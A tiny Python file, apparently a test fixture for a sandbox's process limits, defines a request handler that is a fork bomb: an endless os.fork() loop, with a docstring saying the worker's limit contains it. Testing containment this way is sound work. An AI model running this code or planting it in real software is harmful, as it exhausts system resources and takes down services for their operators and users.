"""A fork bomb: every process forks for ever. The worker's process limit holds it at a few dozen processes."""

import os


def handle(request):
    while True:
        os.fork()
